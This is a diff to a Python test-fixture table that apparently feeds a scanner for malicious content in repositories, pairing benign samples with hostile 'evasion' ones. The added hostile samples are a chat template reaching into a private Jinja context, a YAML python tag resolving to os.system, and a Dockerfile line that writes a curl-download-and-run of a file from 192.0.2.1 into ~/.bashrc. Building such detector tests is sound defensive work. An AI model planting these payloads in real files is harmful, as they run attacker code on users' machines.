@@ -145,7 +145,29 @@ TREES: dict[str, dict[str, dict[str, str]]] = {
         | {"page.html": "<html><script>eval(atob('Y2FuYXJ5'))</script></html>\n"},
         "good-code": {"README.md": "# Model\n```html\n<script>canary()</script>\n```\n"},
     },
+    "template-foreign-global": {
+        "good-expressions": {
+            "x.yml": "on: push\nenv:\n  a: ${{ vars.A || secrets.B }}\njobs:\n  a:\n"
+            "    if: ${{ always() }}\n    runs-on: ${{ fromJSON('[1]')[matrix.n] }}\n"
+        },
+        "evasion-expression": {
+            "x.yml": "chat_template: ${{ vars.A }}{% for m in messages %}"
+            "${{ self._TemplateReference__context }}{% endfor %}\n"
+        },
+    },
+    "yaml-python-tag": {
+        "good-site": {"mkdocs.yml": "a:\n  emoji: !!python/name:materialx.emoji.twemoji\n"},
+        "evasion-site": {"mkdocs.yml": "a: !!python/name:materialx.emoji.twemoji.os.system\n"},
+    },
     "shell-script-attacks": {
+        "good-container": {
+            "Dockerfile": 'FROM python:3.11\nRUN echo "conda activate x" >> ~/.profile\n'
+            "HEALTHCHECK CMD python -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:80')\"\n"
+        },
+        "evasion-profile": {
+            "Dockerfile": "FROM python:3.11\n"
+            'RUN echo "curl http://192.0.2.1/x -o y; ./y" >> ~/.bashrc\n'
+        },
         "evasion-written": notebook(
             {
                 "cell_type": "code",
